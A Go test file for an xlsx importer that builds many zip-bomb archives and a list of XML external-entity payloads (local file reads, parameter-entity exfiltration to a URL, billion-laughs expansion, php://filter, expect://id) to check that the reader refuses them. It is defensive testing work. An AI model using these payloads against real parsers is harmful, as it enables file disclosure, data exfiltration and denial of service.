package xlsx

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
)

// small are limits that make a bomb of what is cheap to make; the ratios stay those of the program.
var small = Limits{Unzipped: 16 << 20, Rows: 10_000, Cols: 100, CellLen: 4_000, Shared: 2 << 20}

// bomb is an archive that is larger inside than anybody may read, and what it is.
type bomb struct {
	name string
	data []byte
}

// bombs makes more than a hundred: every part, filled in every way, with every lie about its size.
func bombs() (all []bomb) {
	good := deflated(sheetPart, `<worksheet><sheetData><row><c><v>1</v></c></row></sheetData></worksheet>`, " ", 72)
	heads := map[string]string{sheetPart: `<worksheet><sheetData>`, "xl/sharedStrings.xml": `<sst>`, "xl/styles.xml": `<styleSheet>`, "xl/workbook.xml": `<workbook>`, "xl/media/image1.png": ""}
	fills := map[string]string{"zeros": "\x00", "blanks": " ", "a comment": "<!-- x", "rows": `<row><c><v>1</v></c></row>`, "strings": `<si><t>a</t></si>`}
	for part, head := range heads {
		for fill, text := range fills {
			e := deflated(part, head+map[bool]string{true: "<!--"}[fill == "a comment"], text, 20<<20)
			for _, declared := range []uint64{e.declared, 17 << 20, 1<<32 - 1, 1, uint64(len(e.data)), 200 << 20} {
				if e.declared = declared; strings.Contains(part, "media") && declared == uint64(len(e.data)) {
					continue // pictures are never opened: only what the directory says of them counts
				}
				entries := bookOf()
				for i := range entries {
					if entries[i].name == part {
						entries[i].name = "xl/other" + part[strings.LastIndex(part, "/"):]
					}
				}
				if part != sheetPart {
					entries = append(entries, good)
				}
				all = append(all, bomb{fmt.Sprintf("%s of %s, says %d", part, fill, declared), archiveOf(append(entries, e))})
			}
		}
	}
	kernel := deflated("k", "", "x", 2<<20)
	for _, n := range []int{9, 30, 200} {
		entries := bookOf(good, kernel)
		for i := range n {
			kernel.name, kernel.shareEarlier = fmt.Sprint("k", i), true
			entries = append(entries, kernel)
		}
		kernel.shareEarlier = false
		all = append(all, bomb{fmt.Sprint("overlapping ", n), archiveOf(entries)})
		entries = bookOf(good)
		for i := range n {
			kernel.name = fmt.Sprint("p", i)
			entries = append(entries, kernel)
		}
		all = append(all, bomb{fmt.Sprint("many of 2 MiB ", n), archiveOf(entries)})
	}
	for _, n := range []int{2_001, 5_000, 65_531} {
		entries := bookOf(good)
		for i := range n {
			entries = append(entries, entry{name: fmt.Sprint("e", i)})
		}
		all = append(all, bomb{fmt.Sprint("entries ", n), archiveOf(entries)})
	}
	return all
}

// refuses reads a file as an import does, with small limits.
func refuses(b []byte) bool { return drain(b, small) != nil }

// exploded returns the bombs a reader does not refuse.
func exploded(all []bomb, refuses func([]byte) bool) (through []string) {
	for _, b := range all {
		if !refuses(b.data) {
			through = append(through, b.name)
		}
	}
	return through
}

// TestArchiveBombs: none is read, and refusing all of them costs no more memory than the limits allow.
func TestArchiveBombs(t *testing.T) {
	all := bombs()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	through := exploded(all, refuses)
	runtime.ReadMemStats(&after)
	each := (after.TotalAlloc - before.TotalAlloc) / uint64(len(all))
	t.Logf("%d bombs tried, %d accepted; %d KiB allocated for each", len(all), len(through), each>>10)
	for _, name := range through {
		t.Error(name)
	}
	if len(all) < 100 || each > 8<<20 {
		t.Errorf("%d bombs, %d bytes for each", len(all), each)
	}
	entries := func(b []byte) []*zip.File {
		z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
		if err != nil {
			return nil
		}
		return z.File
	}
	whole := func(b []byte, wrong func(*zip.File) bool) bool {
		fs := entries(b)
		for _, f := range fs {
			if wrong(f) {
				return true
			}
		}
		return fs == nil
	}
	for name, naive := range map[string]func([]byte) bool{
		"nothing is bounded":           func(b []byte) bool { return entries(b) == nil },
		"what the directory says":      func(b []byte) bool { return whole(b, func(f *zip.File) bool { return f.UncompressedSize64 > 16<<20 }) },
		"each part, and not their sum": func(b []byte) bool { return whole(b, func(f *zip.File) bool { return inflates(f, 16<<20) }) },
		"only the sheet": func(b []byte) bool {
			return whole(b, func(f *zip.File) bool { return f.Name == sheetPart && inflates(f, 16<<20) })
		},
		"only how many entries": func(b []byte) bool { return len(entries(b)) > maxEntries },
		"only how dense a part says to be": func(b []byte) bool {
			return whole(b, func(f *zip.File) bool { return tooDense(int64(f.UncompressedSize64), int64(f.CompressedSize64)) })
		},
	} {
		if len(exploded(all, naive)) == 0 {
			t.Errorf("planted: %s: not found", name)
		}
	}
}

// inflates reports whether a part is longer than n bytes, or no part.
func inflates(f *zip.File, n int64) bool {
	r, err := f.Open()
	if err != nil {
		return true
	}
	defer r.Close()
	got, _ := io.Copy(io.Discard, io.LimitReader(r, n+1))
	return got > n
}

// entityTricks are declarations that fetch a file or an address, or grow; %s is the file, %u the address.
var entityTricks = []string{
	`<!DOCTYPE x [<!ENTITY kn SYSTEM "file://%s">]>`, `<!DOCTYPE x [<!ENTITY kn SYSTEM "%u">]>`, `<!DOCTYPE x SYSTEM "%u/x.dtd">`, `<!DOCTYPE x PUBLIC "-//kn" "%u/x.dtd">`,
	`<!DOCTYPE x [<!ENTITY % p SYSTEM "%u/p.dtd"> %p;]>`, `<!DOCTYPE x [<!ENTITY % f SYSTEM "file://%s"><!ENTITY % e "<!ENTITY kn SYSTEM '%u/?%f;'>"> %e;]>`,
	`<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY kn "&b;&b;&b;&b;&b;&b;&b;&b;">]>`, `<!DOCTYPE x [<!ENTITY kn "&kn;">]>`,
	"<!DOCTYPE\nx\n[\n<!ENTITY\nkn\nSYSTEM\n\"file://%s\"\n>\n]>", `<!DOCTYPE x [<!ATTLIST x y CDATA "kn"><!ENTITY kn "x">]>`, `<!DOCTYPE x [<!NOTATION n SYSTEM "%u"><!ENTITY kn SYSTEM "%u" NDATA n>]>`,
	`<!-- --><!DOCTYPE x [<!ENTITY kn SYSTEM "php://filter/read=string.rot13/resource=%s">]>`, `<!DOCTYPE x [<!ENTITY kn SYSTEM "jar:%u!/x">]>`, `<!DOCTYPE x [<!ENTITY kn SYSTEM "expect://id">]>`,
	`<!ENTITY kn SYSTEM "file://%s">`, `<!doctype x [<!entity kn system "file://%s">]>`, `<!DOCTYPE x [<!ENTITY kn SYSTEM "\\kn.example\x">]>`, `<?xml-stylesheet href="%u/x.xsl"?><!DOCTYPE x>`,
}

// entityBooks are workbooks with each declaration in each part that is read, the entity used where there is text.
func entityBooks(file, address string) (all []bomb) {
	parts := map[string]string{sheetPart: `<worksheet><sheetData><row><c t="str"><v>&kn;</v></c></row></sheetData></worksheet>`, "xl/sharedStrings.xml": `<sst><si><t>&kn;</t></si></sst>`,
		"xl/workbook.xml": rawParts["xl/workbook.xml"], "xl/_rels/workbook.xml.rels": rawParts["xl/_rels/workbook.xml.rels"], "_rels/.rels": rawParts["_rels/.rels"], "xl/styles.xml": `<styleSheet>&kn;</styleSheet>`}
	row := `<row r="1"><c t="str"><v>x</v></c></row>`
	for part, text := range parts {
		for i, trick := range entityTricks {
			declared := strings.NewReplacer("%s", file, "%u", address).Replace(trick)
			all = append(all, bomb{fmt.Sprintf("%s with %d: %s", part, i, trick), raw(row, map[string]string{part: `<?xml version="1.0"?>` + declared + text})})
		}
	}
	return all
}

// TestEntities: no workbook that declares an entity is read; nothing is fetched.
func TestEntities(t *testing.T) {
	var fetched atomic.Int32
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { fetched.Add(1) }))
	defer server.Close()
	file := filepath.Join(t.TempDir(), "kn")
	if err := os.WriteFile(file, []byte("canary"), 0o600); err != nil {
		t.Fatal(err)
	}
	all := entityBooks(file, server.URL)
	through := exploded(all, refuses)
	t.Logf("%d declarations tried, %d accepted, %d addresses asked", len(all), len(through), fetched.Load())
	for _, name := range through {
		t.Error(name)
	}
	if len(all) < 100 || fetched.Load() != 0 {
		t.Errorf("%d tried, %d fetched", len(all), fetched.Load())
	}
	says := func(words ...string) func([]byte) bool {
		return func(b []byte) bool {
			z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
			if err != nil {
				return true
			}
			for _, f := range z.File {
				text := partOf(t, b, f.Name)
				for _, w := range words {
					if strings.Contains(text, w) {
						return true
					}
				}
			}
			return false
		}
	}
	for name, naive := range map[string]func([]byte) bool{
		"nothing is refused":        func([]byte) bool { return false },
		"only odd addresses":        says("php:", "jar:", "expect:"),
		"only files":                says("file://"),
		"only what is in one line":  says("<!DOCTYPE x"),
		"only what is from outside": says("SYSTEM", "PUBLIC"),
		"only parameters":           says("<!ENTITY %"),
	} {
		if len(exploded(all, naive)) == 0 {
			t.Errorf("planted: %s: not found", name)
		}
	}
}
